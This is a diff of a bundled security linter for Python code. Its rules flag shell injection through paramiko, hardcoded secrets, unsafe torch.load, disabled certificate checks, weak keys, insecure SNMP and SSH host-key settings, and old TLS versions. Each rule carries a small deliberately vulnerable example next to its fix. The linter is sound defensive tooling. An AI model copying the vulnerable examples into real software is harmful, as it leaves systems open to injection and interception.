+    full: 'A paramiko exec_command call: the command string is interpreted by the remote host\'s shell, so any part built from outside input can inject commands there.',
+    title: 'A command run through paramiko\'s `exec_command`',
+    why: '`exec_command` sends a string to the SSH server, which runs it with the user\'s login shell. Values pasted into it are parsed by that shell: `;`, `|` and `$(...)` in them run commands on the remote host.',
+    example: 'import paramiko\n\nclient.exec_command(f"ls {directory}")',
+    fix: 'Quote every variable part with `shlex.quote()`, or avoid the shell (SFTP for file operations).',
+    fixed: 'import paramiko\n\nsftp = client.open_sftp()\nnames = sftp.listdir(directory)',
+    notReported: ['`exec_command` calls in files that do not import `paramiko`.'],
+    uses: [calls_1.calls],
+    create(context) {
+        let importsParamiko = false;
+        const check = (node) => {
+            if (/\bparamiko\b/.test(node.text))
+                importsParamiko = true;
+        };
+        return {
+            import_statement: check,
+            import_from_statement: check,
+            end() {
+                if (!importsParamiko)
+                    return;
+                for (const call of context.analysis(calls_1.calls).calls) {
+                    if (call.callee.type === 'attribute' && call.callee.childForFieldName('attribute')?.text === 'exec_command') {
+                        context.report(call.callee, 'paramiko `exec_command` runs its command through the remote shell; check that no part comes from outside input');
+                    }
+                }
+            },
+        };
+    },
+});
+
+
+/***/ }),
+
+/***/ 9852:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.PASSWORD_SPEC = void 0;
+exports.isPasswordName = isPasswordName;
+exports.targetName = targetName;
+exports.literal = literal;
+const literals_1 = __nccwpck_require__(8436);
+/** Names that look like they hold a password, token or secret (`db_password`, `PASSWD`, `api_token`, `secret_`). */
+const CANDIDATE = /(^|_)(pas+wo?r?d|pass(phrase)?|pwd|token|secrete?)($|_)/i;
+function isPasswordName(name) {
+    return CANDIDATE.test(name);
+}
+/** The name a target is known by: `password`, `self.password` -> `password`, `d["password"]` -> `password`. */
+function targetName(node) {
+    const expr = (0, literals_1.unparenthesize)(node);
+    if (expr.type === 'identifier')
+        return expr.text;
+    if (expr.type === 'attribute')
+        return expr.childForFieldName('attribute')?.text;
+    if (expr.type === 'subscript') {
+        const index = expr.childForFieldName('subscript');
+        return index ? (0, literals_1.stringLiteralValue)(index) : undefined;
+    }
+    return undefined;
+}
+/** A plain string literal value (with no interpolation), or undefined. */
+function literal(node) {
+    return node ? (0, literals_1.stringLiteralValue)(node) : undefined;
+}
+/** The grading and fix the three rules share. */
+exports.PASSWORD_SPEC = {
+    severity: 'LOW',
+    confidence: 'MEDIUM',
+    category: 'secrets',
+    cwe: [259],
+    fix: 'Read secrets at run time from the environment (`os.environ["DB_PASSWORD"]`), a secrets manager, or a file outside the repository, and rotate any secret that was committed: it stays in the history.',
+    notReported: [
+        'Empty strings.',
+        'Values that are not plain string literals (f-strings with fields, calls such as `os.environ["PASSWORD"]`, names).',
+        'Names that do not contain `password`, `passwd`, `pwd`, `pass`, `passphrase`, `token` or `secret` as a word (separated by `_` or at the ends): `passenger`, `tokenizer` and `bypass` are not candidates.',
+    ],
+};
+
+
+/***/ }),
+
+/***/ 8537:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.pytorchUnsafeLoad = void 0;
+/** Bandit B614 (no Ruff code): `torch.load` without `weights_only=True`. */
+const arguments_1 = __nccwpck_require__(9950);
+const literals_1 = __nccwpck_require__(8436);
+const common_1 = __nccwpck_require__(8925);
+exports.pytorchUnsafeLoad = (0, common_1.callRule)({
+    id: 'pytorch-unsafe-load', name: 'PytorchUnsafeLoad', bandit: 'B614', severity: 'MEDIUM', confidence: 'HIGH',
+    category: 'deserialization', cwe: [502], functions: ['torch.load'],
+    check: (call) => {
+        const weightsOnly = (0, arguments_1.keywordValue)(call.node, 'weights_only');
+        return !weightsOnly || (0, literals_1.truthiness)(weightsOnly) !== true;
+    },
+    message: (call) => `${(0, common_1.callName)(call)} without \`weights_only=True\` unpickles the file, which can run arbitrary code`,
+    short: 'torch.load without weights_only=True (unpickles arbitrary objects)',
+    full: 'torch.load uses pickle; without weights_only=True a model file from outside the program can run code when it is loaded.',
+    title: '`torch.load` without `weights_only=True`',
+    why: 'PyTorch checkpoints are pickles. Unless `weights_only=True` restricts what may be built, loading a downloaded or user-supplied checkpoint runs whatever code its author put in it.',
+    example: 'import torch\n\nmodel = torch.load("model.pt")',
+    fix: 'Pass `weights_only=True` (the default since PyTorch 2.6), or use the `safetensors` format.',
+    fixed: 'import torch\n\nmodel = torch.load("model.pt", weights_only=True)',
+    notReported: ['`weights_only=` with a true constant.'],
+});
+
+
+/***/ }),
+
+/***/ 7533:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.requestWithoutCertValidation = void 0;
+/** Bandit B501 / Ruff S501: certificate checks turned off in requests/httpx (`verify=False`). */
+const arguments_1 = __nccwpck_require__(9950);
+const literals_1 = __nccwpck_require__(8436);
+const common_1 = __nccwpck_require__(8925);
+const apis_1 = __nccwpck_require__(1813);
+exports.requestWithoutCertValidation = (0, common_1.callRule)({
+    id: 'request-without-cert-validation', name: 'RequestWithoutCertValidation', bandit: 'B501', ruff: 'S501',
+    severity: 'HIGH', confidence: 'HIGH', category: 'tls', cwe: [295],
+    functions: [...apis_1.REQUESTS_FUNCTIONS, ...apis_1.HTTPX_FUNCTIONS],
+    check: (call) => {
+        const verify = (0, arguments_1.keywordValue)(call.node, 'verify');
+        return verify && (0, literals_1.truthiness)(verify) === false ? (0, arguments_1.keywordArgument)(call.node, 'verify') : false;
+    },
+    message: (call) => `${(0, common_1.callName)(call)} with \`verify=False\` accepts any certificate: anyone on the network path can read and change the traffic`,
+    short: 'HTTP request with certificate verification disabled (verify=False)',
+    full: 'A requests or httpx call passes verify=False, so the server\'s certificate is not checked and the connection can be intercepted by anyone on the network path.',
+    title: 'Certificate verification turned off',
+    why: 'Without certificate verification, TLS still encrypts but no longer authenticates: a machine in the middle (a hostile Wi-Fi, a compromised router, a proxy) can present its own certificate, read credentials and change responses.',
+    example: 'import requests\n\nrequests.get("https://internal.example", verify=False)',
+    fix: 'Keep verification on. For a private CA, pass its bundle: `verify="/etc/ssl/private-ca.pem"` (or set `REQUESTS_CA_BUNDLE`).',
+    fixed: 'import requests\n\nrequests.get("https://internal.example", verify="/etc/ssl/private-ca.pem")',
+    notReported: ['`verify=` with a value that is not a false constant (a path, a setting).', 'Sessions configured with `session.verify = False` (attribute assignments are not tracked).'],
+});
+
+
+/***/ }),
+
+/***/ 7588:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.requestWithoutTimeout = void 0;
+/** Bandit B113 / Ruff S113: a `requests` call without a timeout, or a `requests`/`httpx` call with `timeout=None`. */
+const arguments_1 = __nccwpck_require__(9950);
+const literals_1 = __nccwpck_require__(8436);
+const apis_1 = __nccwpck_require__(1813);
+const common_1 = __nccwpck_require__(8925);
+exports.requestWithoutTimeout = (0, common_1.callRule)({
+    id: 'request-without-timeout', name: 'RequestWithoutTimeout', bandit: 'B113', ruff: 'S113', severity: 'MEDIUM', confidence: 'LOW',
+    category: 'network', cwe: [400],
+    functions: [...apis_1.REQUESTS_FUNCTIONS, ...apis_1.HTTPX_FUNCTIONS],
+    check: (call) => {
+        const timeout = (0, arguments_1.keywordValue)(call.node, 'timeout');
+        if (timeout)
+            return (0, literals_1.unparenthesize)(timeout).type === 'none' ? timeout : false;
+        // httpx has a default timeout; requests waits forever unless told otherwise.
+        return call.assumedName.startsWith('requests.') && !(0, arguments_1.hasArgumentSplat)(call.node);
+    },
+    message: (call) => `${(0, common_1.callName)(call)} has no timeout: a server that stops answering blocks the caller forever`,
+    short: 'HTTP request without a timeout',
+    full: 'A requests call without timeout= (or an httpx/requests call with timeout=None) waits for the server indefinitely; a slow or hostile server can hang the program and exhaust its workers.',
+    title: 'An HTTP request without a timeout',
+    why: '`requests` has no default timeout: a call waits as long as the server keeps the connection open. One unresponsive host can block a worker forever, and enough of them take a service down. `httpx` has a default, but `timeout=None` removes it.',
+    example: 'import requests\n\nresp = requests.get(url)',
+    fix: 'Always pass a timeout: `requests.get(url, timeout=10)` (or a `(connect, read)` pair).',
+    fixed: 'import requests\n\nresp = requests.get(url, timeout=10)',
+    notReported: ['`httpx` calls without `timeout=`: httpx applies a 5-second default.', 'Calls that pass `**kwargs` (the timeout may be in them).', 'Methods of a `requests.Session` (the session object is not tracked).'],
+});
+
+
+/***/ }),
+
+/***/ 5948:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.shortCryptographicKey = void 0;
 /**
- * Bandit B507-B509 / Ruff S507-S509: remote-management protocols set up without authentication.
- * SSH clients that accept unknown host keys (B507), SNMP v1/v2c communities (B508), and SNMPv3
- * users without authentication and privacy keys (B509).
+ * Bandit B505 / Ruff S505, MEDIUM: an RSA or DSA key under 2048 bits, or an EC key under 224
+ * bits, that is not in the breakable band of `weak-cryptographic-key` (HIGH).
  */
 const calls_1 = __nccwpck_require__(4463);
 const common_1 = __nccwpck_require__(8925);
-const UNSAFE_POLICIES = new Set(['paramiko.AutoAddPolicy', 'paramiko.WarningPolicy', 'paramiko.client.AutoAddPolicy', 'paramiko.client.WarningPolicy']);
-exports.sshNoHostKeyVerification = (() => {
-    const meta = (0, common_1.securityMeta)({
-        id: 'ssh-no-host-key-verification', name: 'SshNoHostKeyVerification', bandit: 'B507', ruff: 'S507', severity: 'HIGH', confidence: 'MEDIUM',
-        category: 'network', cwe: [295],
-        short: 'paramiko accepts unknown SSH host keys (AutoAddPolicy/WarningPolicy)',
-        full: 'set_missing_host_key_policy is given paramiko\'s AutoAddPolicy or WarningPolicy, so the client connects to any server presenting an unknown key, defeating SSH\'s protection against impersonation.',
-        title: 'SSH host keys not verified',
-        why: 'SSH authenticates the server by its host key. Accepting unknown keys (`AutoAddPolicy`) or only warning (`WarningPolicy`) lets anyone who can intercept the connection pose as the server and collect the credentials and commands sent to it.',
-        example: 'import paramiko\n\nclient = paramiko.SSHClient()\nclient.set_missing_host_key_policy(paramiko.AutoAddPolicy())',
-        fix: 'Load known keys (`client.load_system_host_keys()` or `load_host_keys(path)`) and keep the default `RejectPolicy`.',
-        notReported: ['Policies other than paramiko\'s `AutoAddPolicy` and `WarningPolicy` (custom policies are not inspected).'],
-    });
-    return {
-        meta,
-        uses: [calls_1.calls],
-        create(context) {
-            return {
-                end() {
-                    const model = context.analysis('calls');
-                    for (const call of model.calls) {
-                        if (call.callee.type !== 'attribute' || call.callee.childForFieldName('attribute')?.text !== 'set_missing_host_key_policy')
-                            continue;
-                        const policy = (0, calls_1.argumentAt)(call.node, 0, 'policy');
-                        if (!policy)
-                            continue;
-                        const expr = (0, calls_1.unparenthesize)(policy);
-                        const target = expr.type === 'call' ? expr.childForFieldName('function') : expr;
-                        const q = target ? model.resolveAssumed(target) : undefined;
-                        if (q && UNSAFE_POLICIES.has(q))
-                            context.report(meta, policy, `\`${q.split('.').pop()}\` accepts unknown host keys: the server is not authenticated`);
-                    }
-                },
-            };
-        },
-    };
-})();
+const key_sizes_1 = __nccwpck_require__(7538);
+exports.shortCryptographicKey = (0, common_1.securityRule)({
+    id: 'short-cryptographic-key', name: 'ShortCryptographicKey',
+    bandit: 'B505', ruff: 'S505', severity: 'MEDIUM', confidence: 'HIGH', category: 'cryptography', cwe: [326],
+    short: 'RSA/DSA key under 2048 bits or EC key under 224 bits',
+    full: 'A key is generated below today\'s minimum (RSA/DSA under 2048 bits, elliptic curves under 224 bits); such keys are within reach of well-funded attackers and rejected by current standards.',
+    title: 'A cryptographic key below the recommended size',
+    why: 'The strength of RSA, DSA and elliptic-curve keys depends on their size. NIST and most standards require at least 2048 bits for RSA/DSA and 224 bits for elliptic curves; smaller keys can be factored or solved, exposing everything they sign or protect.',
+    example: 'from cryptography.hazmat.primitives.asymmetric import dsa\n\nkey = dsa.generate_private_key(key_size=1024)',
+    fix: 'Use RSA 3072 (at least 2048) bits, or an elliptic curve such as `ec.SECP256R1()` or Ed25519.',
+    fixed: 'from cryptography.hazmat.primitives.asymmetric import dsa\n\nkey = dsa.generate_private_key(key_size=3072)',
+    notReported: ['Key sizes that are not integer literals (variables, settings).', 'Sizes below 1024 bits (160 for EC): `weak-cryptographic-key`.'],
+    note: '## Why two rules\n\nBandit grades B505 high below 1024 bits (160 for elliptic curves) and medium below 2048 (224). Tendril reports the two bands as `weak-cryptographic-key` (high) and `short-cryptographic-key` (medium); both answer to `B505` and `S505`.',
+    uses: [calls_1.calls],
+    create(context) {
+        return {
+            end() {
+                for (const key of (0, key_sizes_1.generatedKeys)(context.analysis(calls_1.calls))) {
+                    if (key.bits < key.breakableBelow || key.bits >= key.recommended)
+                        continue;
+                    context.report(key.at, `${(0, common_1.callName)(key.call)} generates a ${key.bits}-bit ${key.kind} key; use at least ${key.recommended} bits`);
+                }
+            },
+        };
+    },
+});
+
+
+/***/ }),
+
+/***/ 6806:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.snmpInsecureVersion = void 0;
+/** Bandit B508 / Ruff S508: an SNMP v1 or v2c community (pysnmp `CommunityData` with `mpModel=0` or `1`). */
+const calls_1 = __nccwpck_require__(4463);
+const arguments_1 = __nccwpck_require__(9950);
+const literals_1 = __nccwpck_require__(8436);
+const common_1 = __nccwpck_require__(8925);
+const snmp_1 = __nccwpck_require__(3136);
+exports.snmpInsecureVersion = (0, common_1.securityRule)({
+    id: 'snmp-insecure-version', name: 'SnmpInsecureVersion', bandit: 'B508', ruff: 'S508', severity: 'MEDIUM', confidence: 'HIGH',
+    category: 'network', cwe: [319],
+    short: 'SNMP v1/v2c community (mpModel=0 or 1): clear-text community string',
+    full: 'pysnmp\'s CommunityData is created with mpModel=0 or 1 (SNMP v1 or v2c), which authenticate with a clear-text community string and do not encrypt.',
+    title: 'SNMP v1 or v2c',
+    why: 'SNMP v1 and v2c send the community string, their only credential, in clear text, and protect nothing else. Anyone on the path can read it and then query or reconfigure the device.',
+    example: 'from pysnmp.hlapi import CommunityData\n\nauth = CommunityData("public", mpModel=0)',
+    fix: 'Use SNMPv3 with authentication and privacy: `UsmUserData(user, auth_key, priv_key, authProtocol=..., privProtocol=...)`.',
+    fixed: 'from pysnmp.hlapi import UsmUserData, usmAesCfb128Protocol, usmHMACSHAAuthProtocol\n\nauth = UsmUserData("monitor", auth_key, priv_key, authProtocol=usmHMACSHAAuthProtocol, privProtocol=usmAesCfb128Protocol)',
+    notReported: ['`mpModel=` values that are not the integer literals 0 or 1.'],
+    uses: [calls_1.calls],
+    create(context) {
+        return {
+            end() {
+                for (const call of (0, snmp_1.snmpCalls)(context.analysis(calls_1.calls), 'CommunityData')) {
+                    const model = (0, arguments_1.keywordValue)(call.node, 'mpModel');
+                    const text = model ? (0, literals_1.unparenthesize)(model).text : undefined;
+                    if (text === '0' || text === '1')
+                        context.report(call.callee, `${(0, common_1.callName)(call)} with \`mpModel=${text}\` uses SNMP v${text === '0' ? '1' : '2c'}, which sends its community string in clear text`);
+                }
+            },
+        };
+    },
+});
+
+
+/***/ }),
+
+/***/ 5096:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.snmpWeakCryptography = void 0;
+/** Bandit B509 / Ruff S509: an SNMPv3 user (pysnmp `UsmUserData`) without authentication and privacy keys. */
+const calls_1 = __nccwpck_require__(4463);
+const arguments_1 = __nccwpck_require__(9950);
+const common_1 = __nccwpck_require__(8925);
+const snmp_1 = __nccwpck_require__(3136);
+exports.snmpWeakCryptography = (0, common_1.securityRule)({
+    id: 'snmp-weak-cryptography', name: 'SnmpWeakCryptography', bandit: 'B509', ruff: 'S509', severity: 'MEDIUM', confidence: 'HIGH',
+    category: 'network', cwe: [319],
+    short: 'SNMPv3 user without authentication and privacy keys',
+    full: 'pysnmp\'s UsmUserData is created with fewer than three arguments, so the SNMPv3 user has no privacy (encryption) key and possibly no authentication key (noAuthNoPriv or authNoPriv).',
+    title: 'SNMPv3 without encryption',
+    why: 'An SNMPv3 user without a privacy key sends everything in clear text, and without an authentication key anyone can speak for it.',
+    example: 'from pysnmp.hlapi import UsmUserData\n\nuser = UsmUserData("monitor", "auth-key")',
+    fix: 'Give both keys and strong protocols: `UsmUserData(user, auth_key, priv_key, authProtocol=usmHMACSHAAuthProtocol, privProtocol=usmAesCfb128Protocol)`.',
+    fixed: 'from pysnmp.hlapi import UsmUserData, usmAesCfb128Protocol, usmHMACSHAAuthProtocol\n\nuser = UsmUserData("monitor", auth_key, priv_key, authProtocol=usmHMACSHAAuthProtocol, privProtocol=usmAesCfb128Protocol)',
+    notReported: ['Calls with three or more arguments (positional or keyword), or with `*args`/`**kwargs`.'],
+    uses: [calls_1.calls],
+    create(context) {
+        return {
+            end() {
+                for (const call of (0, snmp_1.snmpCalls)(context.analysis(calls_1.calls), 'UsmUserData')) {
+                    const args = call.args?.type === 'argument_list' ? call.args.namedChildren.filter((c) => c && c.type !== 'comment') : [];
+                    if (args.some((a) => a.type === 'list_splat' || a.type === 'dictionary_splat'))
+                        continue;
+                    if (args.length >= 3 || (0, arguments_1.positionalArguments)(call.node).length >= 3)
+                        continue;
+                    context.report(call.callee, `${(0, common_1.callName)(call)} without a privacy key sends SNMP traffic unencrypted`);
+                }
+            },
+        };
+    },
+});
+
+
+/***/ }),
+
+/***/ 3136:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.snmpCalls = snmpCalls;
+/** The calls to pysnmp's class or function `name`, from whichever pysnmp module it is imported. */
 function snmpCalls(model, name) {
     return model.calls.filter((c) => {
         const q = c.assumedName;
         return q !== undefined && q.startsWith('pysnmp.') && q.endsWith(`.${name}`);
     });
 }
-exports.snmpInsecureVersion = (() => {
-    const meta = (0, common_1.securityMeta)({
-        id: 'snmp-insecure-version', name: 'SnmpInsecureVersion', bandit: 'B508', ruff: 'S508', severity: 'MEDIUM', confidence: 'HIGH',
-        category: 'network', cwe: [319],
-        short: 'SNMP v1/v2c community (mpModel=0 or 1): clear-text community string',
-        full: 'pysnmp\'s CommunityData is created with mpModel=0 or 1 (SNMP v1 or v2c), which authenticate with a clear-text community string and do not encrypt.',
-        title: 'SNMP v1 or v2c',
-        why: 'SNMP v1 and v2c send the community string, their only credential, in clear text, and protect nothing else. Anyone on the path can read it and then query or reconfigure the device.',
-        example: 'from pysnmp.hlapi import CommunityData\n\nauth = CommunityData("public", mpModel=0)',
-        fix: 'Use SNMPv3 with authentication and privacy: `UsmUserData(user, auth_key, priv_key, authProtocol=..., privProtocol=...)`.',
-        notReported: ['`mpModel=` values that are not the integer literals 0 or 1.'],
-    });
-    return {
-        meta,
-        uses: [calls_1.calls],
-        create(context) {
-            return {
-                end() {
-                    for (const call of snmpCalls(context.analysis('calls'), 'CommunityData')) {
-                        const model = (0, calls_1.keywordValue)(call.node, 'mpModel');
-                        const text = model ? (0, calls_1.unparenthesize)(model).text : undefined;
-                        if (text === '0' || text === '1')
-                            context.report(meta, call.callee, `${(0, common_1.callName)(call)} with \`mpModel=${text}\` uses SNMP v${text === '0' ? '1' : '2c'}, which sends its community string in clear text`);
+
+
+/***/ }),
+
+/***/ 1335:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.sshNoHostKeyVerification = void 0;
+/** Bandit B507 / Ruff S507: an SSH client (paramiko) that accepts unknown host keys. */
+const calls_1 = __nccwpck_require__(4463);
+const arguments_1 = __nccwpck_require__(9950);
+const literals_1 = __nccwpck_require__(8436);
+const common_1 = __nccwpck_require__(8925);
+const UNSAFE_POLICIES = new Set(['paramiko.AutoAddPolicy', 'paramiko.WarningPolicy', 'paramiko.client.AutoAddPolicy', 'paramiko.client.WarningPolicy']);
+exports.sshNoHostKeyVerification = (0, common_1.securityRule)({
+    id: 'ssh-no-host-key-verification', name: 'SshNoHostKeyVerification', bandit: 'B507', ruff: 'S507', severity: 'HIGH', confidence: 'MEDIUM',
+    category: 'network', cwe: [295],
+    short: 'paramiko accepts unknown SSH host keys (AutoAddPolicy/WarningPolicy)',
+    full: 'set_missing_host_key_policy is given paramiko\'s AutoAddPolicy or WarningPolicy, so the client connects to any server presenting an unknown key, defeating SSH\'s protection against impersonation.',
+    title: 'SSH host keys not verified',
+    why: 'SSH authenticates the server by its host key. Accepting unknown keys (`AutoAddPolicy`) or only warning (`WarningPolicy`) lets anyone who can intercept the connection pose as the server and collect the credentials and commands sent to it.',
+    example: 'import paramiko\n\nclient = paramiko.SSHClient()\nclient.set_missing_host_key_policy(paramiko.AutoAddPolicy())',
+    fix: 'Load known keys (`client.load_system_host_keys()` or `load_host_keys(path)`) and keep the default `RejectPolicy`.',
+    fixed: 'import paramiko\n\nclient = paramiko.SSHClient()\nclient.load_system_host_keys()',
+    notReported: ['Policies other than paramiko\'s `AutoAddPolicy` and `WarningPolicy` (custom policies are not inspected).'],
+    uses: [calls_1.calls],
+    create(context) {
+        return {
+            end() {
+                const model = context.analysis(calls_1.calls);
+                for (const call of model.calls) {
+                    if (call.callee.type !== 'attribute' || call.callee.childForFieldName('attribute')?.text !== 'set_missing_host_key_policy')
+                        continue;
+                    const policy = (0, arguments_1.argumentAt)(call.node, 0, 'policy');
+                    if (!policy)
+                        continue;
+                    const expr = (0, literals_1.unparenthesize)(policy);
+                    const target = expr.type === 'call' ? expr.childForFieldName('function') : expr;
+                    const q = target ? model.resolveAssumed(target) : undefined;
+                    if (q && UNSAFE_POLICIES.has(q))
+                        context.report(policy, `\`${q.split('.').pop()}\` accepts unknown host keys: the server is not authenticated`);
+                }
+            },
+        };
+    },
+});
+
+
+/***/ }),
+
+/***/ 8318:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.sslInsecureVersionDefault = void 0;
+const common_1 = __nccwpck_require__(8925);
+const ssl_protocols_1 = __nccwpck_require__(3988);
+exports.sslInsecureVersionDefault = (0, common_1.securityRule)({
+    id: 'ssl-insecure-version-default', name: 'SslInsecureVersionDefault', bandit: 'B503', ruff: 'S503', severity: 'MEDIUM', confidence: 'MEDIUM',
+    category: 'tls', cwe: [327],
+    short: 'parameter default is a broken SSL/TLS protocol version',
+    full: 'A function parameter defaults to SSL 2/3 or TLS 1.0/1.1, so callers that do not choose a version get a broken one.',
+    title: 'A broken SSL/TLS protocol version as a default',
+    why: `${ssl_protocols_1.PROTOCOL_WHY} As a default, the weak version is used by every caller that does not override it.`,
+    example: 'import ssl\n\ndef connect(host, version=ssl.PROTOCOL_SSLv3):\n    ...',
+    fix: 'Default to `ssl.PROTOCOL_TLS_CLIENT` (or `None` and build a context with `ssl.create_default_context()`).',
+    fixed: 'import ssl\n\ndef connect(host, version=ssl.PROTOCOL_TLS_CLIENT):\n    ...',
+    notReported: ['Defaults that are not one of the broken protocol constants.'],
+    create(context) {
+        const check = (node) => {
+            const value = node.childForFieldName('value');
+            const bad = value ? (0, ssl_protocols_1.badProtocol)(value) : undefined;
+            if (bad)
+                context.report(value, `parameter default \`${bad}\` is a broken protocol version`);
+        };
+        return { default_parameter: check, typed_default_parameter: check };
+    },
+});
+
+
+/***/ }),
+
+/***/ 5546:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.sslInsecureVersion = void 0;
+/** Bandit B502 / Ruff S502: a broken SSL/TLS protocol version passed to a call. */
+const calls_1 = __nccwpck_require__(4463);
+const arguments_1 = __nccwpck_require__(9950);
+const common_1 = __nccwpck_require__(8925);
+const ssl_protocols_1 = __nccwpck_require__(3988);
+exports.sslInsecureVersion = (0, common_1.securityRule)({
+    id: 'ssl-insecure-version', name: 'SslInsecureVersion', bandit: 'B502', ruff: 'S502', severity: 'HIGH', confidence: 'HIGH',
+    category: 'tls', cwe: [327],
+    short: 'call with a broken SSL/TLS protocol version (SSLv2, SSLv3, TLSv1, TLSv1.1)',
+    full: 'A call passes ssl_version= or method= naming SSL 2/3 or TLS 1.0/1.1, protocol versions with known attacks.',
+    title: 'A broken SSL/TLS protocol version',
+    why: ssl_protocols_1.PROTOCOL_WHY,
+    example: 'import ssl\n\nctx = ssl.SSLContext(ssl_version=ssl.PROTOCOL_TLSv1)',
+    fix: 'Use `ssl.create_default_context()` (or `ssl.PROTOCOL_TLS_CLIENT`), and raise `minimum_version` to `ssl.TLSVersion.TLSv1_2` if needed.',
+    fixed: 'import ssl\n\nctx = ssl.create_default_context()\nctx.minimum_version = ssl.TLSVersion.TLSv1_2',
+    notReported: ['Protocol versions passed positionally, or through variables.', 'A protocol constant as a parameter default: that is `ssl-insecure-version-default` (B503).'],
+    uses: [calls_1.calls],
+    create(context) {
+        return {
+            end() {
+                for (const call of context.analysis(calls_1.calls).calls) {
+                    for (const keyword of ['ssl_version', 'method']) {
+                        const value = (0, arguments_1.keywordValue)(call.node, keyword);
+                        const bad = value ? (0, ssl_protocols_1.badProtocol)(value) : undefined;
+                        if (bad)
+                            context.report((0, arguments_1.keywordArgument)(call.node, keyword), `\`${bad}\` is a broken protocol version; use TLS 1.2 or later`);
                     }
-                },
-            };
+                }
+            },
+        };
+    },
+});
+
+
+/***/ }),
+
+/***/ 3988:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.PROTOCOL_WHY = void 0;
+exports.badProtocol = badProtocol;
+const literals_1 = __nccwpck_require__(8436);
+const BAD_PROTOCOLS = new Set([
+    'PROTOCOL_SSLv2', 'PROTOCOL_SSLv3', 'PROTOCOL_TLSv1', 'PROTOCOL_TLSv1_1',
+    'SSLv2_METHOD', 'SSLv23_METHOD', 'SSLv3_METHOD', 'TLSv1_METHOD', 'TLSv1_1_METHOD',
+]);
+/** The protocol constant's name when the node names a broken protocol (`ssl.PROTOCOL_SSLv3`, `SSLv3_METHOD`). */
+function badProtocol(node) {
+    const expr = (0, literals_1.unparenthesize)(node);
+    const name = expr.type === 'attribute' ? expr.childForFieldName('attribute')?.text : expr.type === 'identifier' ? expr.text : undefined;
+    return name && BAD_PROTOCOLS.has(name) ? name : undefined;
+}
+/** Help text: why the broken protocol versions matter. */
+exports.PROTOCOL_WHY = 'SSL 2.0, SSL 3.0, TLS 1.0 and TLS 1.1 have known attacks (DROWN, POODLE, BEAST) and are deprecated (RFC 8996). A connection that uses them can be downgraded or decrypted.';
+
+
+/***/ }),
+
+/***/ 7364:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.sslWithNoVersion = void 0;
+/** Bandit B504 / Ruff S504: `ssl.wrap_socket` without an explicit protocol version. */
+const arguments_1 = __nccwpck_require__(9950);
+const common_1 = __nccwpck_require__(8925);
+exports.sslWithNoVersion = (0, common_1.callRule)({
+    id: 'ssl-with-no-version', name: 'SslWithNoVersion', bandit: 'B504', ruff: 'S504', severity: 'LOW', confidence: 'MEDIUM',
+    category: 'tls', cwe: [327], functions: ['ssl.wrap_socket'],
+    check: (call) => !(0, arguments_1.keywordArgument)(call.node, 'ssl_version'),
+    message: (call) => `${(0, common_1.callName)(call)} without \`ssl_version=\` relies on a default that may allow old protocol versions`,
+    short: 'ssl.wrap_socket called without an explicit protocol version',
+    full: 'ssl.wrap_socket is called without ssl_version=, so the protocol depends on the Python version\'s default, which allowed broken versions in older releases. wrap_socket is also deprecated and removed in Python 3.12.',
+    title: '`ssl.wrap_socket` without a protocol version',
+    why: '`ssl.wrap_socket` takes its protocol from a default that, on older Pythons, negotiates SSL 3 or TLS 1.0. It also checks no certificate by default, and it was removed in Python 3.12.',
+    example: 'import ssl\n\nconn = ssl.wrap_socket(sock)',
+    fix: 'Use `ssl.create_default_context().wrap_socket(sock, server_hostname=host)`.',
+    fixed: 'import ssl\n\nconn = ssl.create_default_context().wrap_socket(sock, server_hostname=host)',
+    notReported: ['Calls that pass `ssl_version=` (a broken version there is `ssl-insecure-version`).'],
+});
+
+
+/***/ }),
+
+/***/ 2756:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.startProcessWithNoShell = void 0;
+/** Bandit B606 / Ruff S606: a function that starts a process without a shell (`os.exec*`, `os.spawn*`, `os.startfile`). */
+const common_1 = __nccwpck_require__(8925);
+const apis_1 = __nccwpck_require__(1813);
+exports.startProcessWithNoShell = (0, common_1.callRule)({
+    id: 'start-process-with-no-shell', name: 'StartProcessWithNoShell', bandit: 'B606', ruff: 'S606', severity: 'LOW', confidence: 'MEDIUM',
+    category: 'injection', cwe: [78], functions: apis_1.NO_SHELL_FUNCTIONS,
+    message: (call) => `${(0, common_1.callName)(call)} starts a process: check that the program and arguments cannot come from outside input`,
+    short: 'process started without a shell (os.exec*, os.spawn*, os.startfile)',
+    full: 'os.exec*, os.spawn* or os.startfile start a program directly. There is no shell, but the program and arguments deserve review if any come from outside the program.',
+    title: 'A process started without a shell',
+    why: 'These functions run the program they are given. If its path or arguments come from outside input, that input chooses what runs; `os.startfile` opens any file with its associated application.',
+    example: 'import os\n\nos.execvp(program, [program, arg])',
+    fix: 'Use fixed program paths and validated arguments; prefer `subprocess.run([...])`. Dismiss once reviewed.',
+    fixed: 'import subprocess\n\nsubprocess.run([program, arg], check=True)',
